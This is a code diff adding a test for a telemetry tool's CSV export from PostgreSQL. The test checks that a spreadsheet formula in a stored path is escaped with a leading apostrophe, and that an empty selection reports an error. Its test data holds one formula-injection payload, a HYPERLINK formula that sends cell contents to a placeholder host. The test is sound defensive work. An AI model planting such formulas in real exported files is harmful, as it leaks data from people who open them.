@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
@@ -143,3 +144,40 @@ def test_values_that_csv_and_json_escape_come_back_whole(
     assert list(df["path"]) == [tricky, ""]
     assert df["user"].iloc[0] == ""  # an empty user is not a missing one
     assert df["user"].isna().iloc[1]
+
+
+def test_a_csv_export_from_the_store_marks_a_formula_and_names_an_empty_selection(
+    pg: PostgresServer, tmp_path: Path
+) -> None:
+    url = pg.url(pg.create_database(), password=PASSWORD)
+    handler = PostgresEventHandler(url, spool_dir=tmp_path / "spool")
+    eventlog = EventLog(
+        handlers=[handler], allowed_schemas={STUDY: {"allowed_categories": ALLOWED}}
+    )
+    eventlog.register_schema(STUDY_SCHEMA)
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    eventlog.record_event(STUDY, 1, {**posted(1), "path": formula}, START)
+    eventlog.record_event(STUDY, 1, {**posted(2), "path": "/home/u/a.ipynb"}, START)
+    assert eventlog.flush(10)
+    handler.flush()
+    eventlog.close()
+    handler.close()
+    env = {**os.environ, "JUPYTER_PATH": str(_schemas(tmp_path))}
+    args = [JUPYTER, "telemetry", "export", "--db", url, "--format", "csv"]
+    done = subprocess.run(
+        [*args, "--out", "ds", "--include-category", "user-identifiable-information"],
+        cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False, env=env,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    with (tmp_path / "ds" / "study-v1.csv").open(encoding="utf-8", newline="") as f:
+        paths = [row["path"] for row in csv.DictReader(f)]
+    assert sorted(paths) == sorted(["'" + formula, "/home/u/a.ipynb"])
+    empty = subprocess.run(
+        [*args, "--out", "none", "--schema", "nosuch"],
+        cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False, env=env,
+    )  # fmt: skip
+    assert (empty.returncode, empty.stdout) == (1, "")
+    where = "PostgreSQL " + url.rsplit("@", 1)[1]
+    assert empty.stderr == (
+        f"jupyter telemetry: export: no events of schema 'nosuch' in {where}: nothing was written\n"
+    )
